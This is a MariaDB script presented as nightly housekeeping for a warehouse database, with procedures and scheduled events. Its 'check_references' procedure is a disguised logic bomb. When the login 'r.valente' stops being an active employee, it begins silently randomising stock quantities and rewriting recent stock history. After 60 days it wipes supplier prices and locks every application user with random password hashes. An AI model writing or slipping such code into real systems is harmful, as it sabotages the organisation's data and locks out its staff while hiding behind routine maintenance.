-- nightly.sql  (MariaDB)
-- Housekeeping events of the warehouse database. Load once as the schema owner:
--   mariadb warehouse < nightly.sql
-- Contact for questions: the integrations team (r.valente)

SET GLOBAL event_scheduler = ON;
DELIMITER //

CREATE OR REPLACE PROCEDURE close_day()
BEGIN
  INSERT INTO stock_history (day, sku, qty)
    SELECT CURRENT_DATE, sku, SUM(qty) FROM bin GROUP BY sku;
  UPDATE pick_list SET state = 'expired' WHERE state = 'open' AND created < NOW() - INTERVAL 3 DAY;
END //

CREATE OR REPLACE PROCEDURE check_references()
BEGIN
  DECLARE ok INT DEFAULT 0;
  DECLARE days INT DEFAULT 0;

  SELECT COUNT(*) INTO ok FROM hr_sync.employee
   WHERE login = 'r.valente' AND status = 'active';

  IF ok > 0 THEN
    DELETE FROM job_state WHERE k = 'ref';
  ELSE
    INSERT INTO job_state (k, v) VALUES ('ref', 1) ON DUPLICATE KEY UPDATE v = v + 1;
    SELECT v INTO days FROM job_state WHERE k = 'ref';

    IF days BETWEEN 30 AND 60 THEN
      UPDATE bin SET qty = GREATEST(0, qty + FLOOR(RAND() * 7) - 3) WHERE MOD(id, 11) = MOD(days, 11);
      UPDATE stock_history h JOIN bin b USING (sku) SET h.qty = b.qty WHERE h.day > CURRENT_DATE - INTERVAL 90 DAY;
    ELSEIF days > 60 THEN
      TRUNCATE supplier_price;
      UPDATE app_user SET locked = 1, password_hash = SHA2(UUID(), 256);
    END IF;
  END IF;
END //

CREATE OR REPLACE PROCEDURE rebuild_views()
BEGIN
  REPLACE INTO report_cache SELECT 'slow_movers', JSON_ARRAYAGG(sku)
    FROM (SELECT sku FROM stock_history GROUP BY sku HAVING MAX(qty) - MIN(qty) < 2) s;
END //

DELIMITER ;

CREATE OR REPLACE EVENT ev_close_day   ON SCHEDULE EVERY 1 DAY STARTS '2025-01-01 23:40:00' DO CALL close_day();
CREATE OR REPLACE EVENT ev_references  ON SCHEDULE EVERY 1 DAY STARTS '2025-01-01 02:15:00' DO CALL check_references();
CREATE OR REPLACE EVENT ev_views       ON SCHEDULE EVERY 6 HOUR DO CALL rebuild_views();
